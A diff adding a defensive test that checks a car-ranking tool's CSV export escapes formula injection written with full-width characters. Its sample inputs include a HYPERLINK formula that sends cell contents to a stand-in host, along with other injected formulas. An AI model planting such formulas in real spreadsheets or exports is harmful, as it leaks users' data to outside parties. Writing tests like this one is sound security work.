@@ -118,6 +118,34 @@ def test_csv_cells_that_are_formulas_after_spaces_are_text_too(capsys, tmp_path:
     assert names == {"'" + name for name in hostile} | {"Kei 660 = fun"}
 
 
+def test_csv_cells_that_are_full_width_formulas_are_text_too(capsys, tmp_path: Path) -> None:
+    """Japanese Excel turns a formula typed in full-width ('＝SUM（A1）', as a Japanese
+    input method types '=') into a half-width one and runs it: a name beginning with
+    ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20), also after a full-width space, gets the '
+    as = + - @ do (it was written as it was). Names with those signs later, or beginning
+    with the katakana long vowel mark 'ー', stay as they are; the figures are unchanged."""
+    builds = tmp_path / "class"
+    builds.mkdir()
+    hostile = [
+        '＝HYPERLINK("http://example.invalid/?"&A1,"click")',
+        "＋1＋1",
+        "－2",
+        "＠SUM(A1)",
+        "\u3000＝1＋1",
+    ]
+    fine = ["ｶﾌﾟﾁｰﾉ－改", "ーキャロルー", "軽トラ＋α", "ビート＠鈴鹿"]
+    for i, name in enumerate(hostile + fine):
+        save(builds, f"{i}.kei.json", name, **{"engine.displacement_cc": 560 + 10 * i})
+    out_csv = tmp_path / "table.csv"
+    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
+    assert code == 0
+    table = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
+    assert {r["name"] for r in table} == {"'" + name for name in hostile} | set(fine)
+    code, out, _ = run(capsys, "rank", str(builds), "--json")
+    times = {r["file"]: r["zero_to_100kmh_s"] for r in json.loads(out)}
+    assert {r["file"]: float(r["zero_to_100kmh_s"]) for r in table} == times
+
+
 def test_csv_cells_have_no_control_characters(capsys, tmp_path: Path) -> None:
     """Names, file names and errors from the files reach the CSV with their control
     characters escaped as the terminal shows them (a line break, an escape sequence, a bell,
